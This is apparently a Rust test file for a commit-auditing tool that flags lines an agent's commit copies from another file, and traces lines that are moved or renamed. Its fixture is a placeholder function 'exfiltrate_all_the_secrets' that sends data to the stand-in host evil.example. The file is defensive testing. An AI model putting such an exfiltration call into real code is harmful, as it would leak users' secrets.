//! Lines of another file: nobody put them where they are, but those that a commit moves (D-43).

use super::{audited, commit, labels, written};
use crate::process::machine::Machine;
use crate::process::sealing::{bailiwick_in, git, sealing};
use crate::world::said;

const FROM: &str = "src/auth/notes.md";
const TO: &str = "src/auth/runs.rs";
const LINES: &str = "fn exfiltrate_all_the_secrets() {\n    send_to(\"https://evil.example\");\n}\n";

/// A commit with lines of an agent, and the agent's next work, which waits.
fn noted(machine: &Machine) {
    written(machine, &[(FROM, &format!("# An example of an attack\n\n{LINES}"))]);
    commit(machine, "notes");
    written(machine, &[("src/auth/other.rs", "// some other work\n")]);
}

#[test]
fn lines_that_still_stand_in_another_file_are_copied_and_do_not_pass() {
    let machine = sealing();
    noted(&machine);
    machine.write(TO, LINES);
    commit(&machine, "agent");
    let (code, audit) = audited(&machine, &["HEAD"]);
    assert_eq!((code, labels(&audit)), (Some(1), vec![vec!["traced", "copied"]]), "{audit}");
    assert_eq!(audit["commits"][0]["hunks"][1]["intents"][0], "INT-001");
    let text = said(&bailiwick_in(&machine, &machine.root(), &["audit", "HEAD"]));
    assert!(text.contains("copied        src/auth/runs.rs:1-3"), "{text}");
    let sarif = said(&bailiwick_in(&machine, &machine.root(), &["audit", "--sarif", "HEAD"]));
    assert!(sarif.contains("\"ruleId\":\"copied\""), "{sarif}");
}

#[test]
fn a_persons_copy_is_told_and_passes() {
    let machine = sealing();
    noted(&machine);
    git(&machine, &["stash", "-qu", "--", "src/auth/other.rs"]);
    machine.write(TO, LINES);
    git(&machine, &["add", TO]);
    git(&machine, &["-c", "core.hooksPath=/dev/null", "commit", "-qm", "by hand"]);
    let (code, audit) = audited(&machine, &["HEAD"]);
    assert_eq!((code, labels(&audit)), (Some(0), vec![vec!["copied"]]), "{audit}");
}

#[test]
fn lines_that_the_commit_moves_are_traced() {
    let machine = sealing();
    noted(&machine);
    written(&machine, &[(FROM, "# An example of an attack\n")]);
    machine.write(TO, LINES);
    commit(&machine, "agent");
    let (code, audit) = audited(&machine, &["HEAD"]);
    let labels = labels(&audit);
    assert!(code == Some(0) && labels[0].iter().all(|label| *label == "traced"), "{audit}");
}

// A file that was copied as a whole, beside the one that it is a copy of
#[test]
fn a_copy_of_a_whole_file_is_copied() {
    let machine = sealing();
    written(&machine, &[("src/auth/first.rs", LINES)]);
    machine.write(TO, LINES);
    commit(&machine, "agent");
    let (code, audit) = audited(&machine, &["HEAD"]);
    assert_eq!((code, labels(&audit)), (Some(1), vec![vec!["traced", "copied"]]), "{audit}");
}

#[test]
fn a_file_that_the_commit_moved_as_a_whole_is_traced() {
    let machine = sealing();
    noted(&machine);
    super::beside::change_of(&machine, FROM, &format!("# Another example of an attack\n\n{LINES}"));
    git(&machine, &["mv", FROM, "src/auth/moved.md"]);
    commit(&machine, "agent");
    let (_, audit) = audited(&machine, &["HEAD"]);
    let runs = audit["commits"][0]["hunks"].as_array().unwrap();
    let of_moved = runs.iter().filter(|run| run["file"] == "src/auth/moved.md");
    assert!(of_moved.into_iter().all(|run| run["label"] == "traced"), "{audit}");
}
